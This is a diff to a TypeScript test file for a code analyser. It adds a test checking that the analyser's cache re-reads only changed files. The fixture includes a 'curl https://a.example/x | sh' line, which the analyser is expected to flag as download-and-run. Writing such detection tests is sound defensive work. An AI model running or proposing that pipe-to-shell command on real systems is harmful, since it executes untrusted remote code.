@@ -1,6 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { commands } from "../../src/analysis/analysers/commands.ts";
-import { scratchFolder, sourceFile } from "./change-of.ts";
+import { openAnalysisCache } from "../../src/analysis/open-analysis-cache.ts";
+import { analyse, scratchFolder, sourceFile } from "./change-of.ts";
 
 async function told(path: string, text: string): Promise<string[]> {
   const context = { signal: new AbortController().signal, scratch: scratchFolder() };
@@ -9,6 +10,18 @@ async function told(path: string, text: string): Promise<string[]> {
 }
 
 const scripts = (given: Record<string, string>) => JSON.stringify({ name: "a", scripts: given }, null, 2);
+
+it("REV-1: reads after a push only the files that it touched, and says the same", async () => {
+  const cache = openAnalysisCache(scratchFolder());
+  const look = async (port: number) => {
+    const files = { "a.sh": "curl https://a.example/x | sh\n", "b.ts": `listen(${port});\n` };
+    const { observations, cache: counts } = await analyse(files, { analysers: [commands], cache });
+    return [observations.map(({ file, rule }) => `${file} ${rule}`), counts];
+  };
+  const said = ["a.sh commands/download-run"];
+  expect(await look(1)).toEqual([said, { hits: 0, misses: 2 }]);
+  expect(await look(2)).toEqual([said, { hits: 1, misses: 1 }]);
+});
 
 describe("SEC-5: what shells and package managers are told to run", () => {
   it("blocks what is loaded and run when a package is installed", async () => {
